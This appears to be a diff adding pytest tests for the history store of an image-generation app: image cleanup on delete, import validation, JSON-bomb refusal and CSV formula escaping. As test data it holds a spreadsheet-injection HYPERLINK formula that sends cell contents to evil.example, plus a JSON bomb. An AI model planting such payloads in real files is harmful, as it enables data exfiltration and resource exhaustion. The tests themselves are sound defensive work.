@@ -129,3 +129,77 @@ def test_a_source_lost_on_disk_is_exported_without_its_link(store, other, tmp_pa
     assert other.import_archive(archive) == (3, 0)  # the archive holds every source its rows name
     restored = [g for g in other.page().items if g.mode == "inpaint"]
     assert {(g.source_sha256, g.mask_sha256) for g in restored} == {(image, None)}
+
+
+def test_an_init_image_goes_with_the_last_row_that_names_it(store):
+    """Deleting generations removed their images but never the init images and masks they started from (a hostile
+    pass): one no row names any more is removed; one another row still names stays."""
+    image, mask = started_from_pictures(store)
+    first, second = (g.id for g in store.page().items if g.prompt == "from a picture")
+    store.delete(first)
+    assert set(source_files(store)) == {f"{image}.png", f"{mask}.png"}  # the other inpaint still names both
+    store.delete_many([second])
+    assert source_files(store) == {}
+
+
+def test_an_import_adds_no_image_to_a_blocked_row_and_keeps_no_source_only_it_named(store, other, tmp_path):
+    """A `blocked` entry (the app never keeps a blocked row's pictures) comes in without its images and init image;
+    an entry with more images than its num_images is refused."""
+    started_from_pictures(store)
+    archive = tmp_path / "history.zip"
+    store.export_archive(archive)
+
+    def blocked(name, data):
+        if name != "history.json":
+            return data
+        document = json.loads(data)
+        for entry in document["generations"]:
+            entry["status"] = "blocked"
+        return json.dumps(document).encode()
+
+    assert other.import_archive(rewritten(archive, tmp_path / "blocked.zip", blocked)) == (3, 0)
+    assert all(g.images == [] and g.source_sha256 is None for g in other.page().items)
+    assert picture_files(other) == []  # no image, no thumbnail, no init image or mask
+
+    def doubled(name, data):
+        if name != "history.json":
+            return data
+        document = json.loads(data)
+        entry = document["generations"][0]
+        entry["images"] = entry["images"] * 2
+        return json.dumps(document).encode()
+
+    with pytest.raises(StorageError, match="more images than its num_images"):
+        other.import_archive(rewritten(archive, tmp_path / "doubled.zip", doubled))
+
+
+@pytest.mark.parametrize(
+    ("document", "sentence"),
+    [
+        (b'{"format": "krea2-studio-history/2", "generations": []}', "another version's format"),
+        (b'{"format": "krea2-studio-history/1", "generations": [' + b"{}," * 7_000_000 + b"{}]}", "far more entries"),
+    ],
+)
+def test_a_newer_export_or_a_json_bomb_is_one_sentence(other, tmp_path, document, sentence):
+    """A history.json of a few MB that would parse into gigabytes of empty objects is refused before parsing."""
+    archive = tmp_path / "odd.zip"
+    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as created:
+        created.writestr("history.json", document)
+    with pytest.raises(StorageError, match=sentence):
+        other.import_archive(archive)
+
+
+def test_the_csv_shows_a_formula_as_text(store, tmp_path):
+    """Prompts like `=HYPERLINK(...)` were formulas once history.csv was opened in a spreadsheet."""
+    import csv
+    import io
+
+    store.add(new_generation('=HYPERLINK("http://evil.example/?x="&A1,"click")', seed=1))
+    store.add(new_generation("@SUM(1+1)", seed=2))
+    archive = tmp_path / "history.zip"
+    store.export_archive(archive)
+    with zipfile.ZipFile(archive) as opened:
+        prompts = [row["prompt"] for row in csv.DictReader(io.StringIO(opened.read("history.csv").decode()))]
+        records = json.loads(opened.read("history.json"))["generations"]
+    assert prompts == ['\'=HYPERLINK("http://evil.example/?x="&A1,"click")', "'@SUM(1+1)"]
+    assert records[0]["prompt"].startswith("=HYPERLINK")  # history.json, which an import reads, keeps it as it was
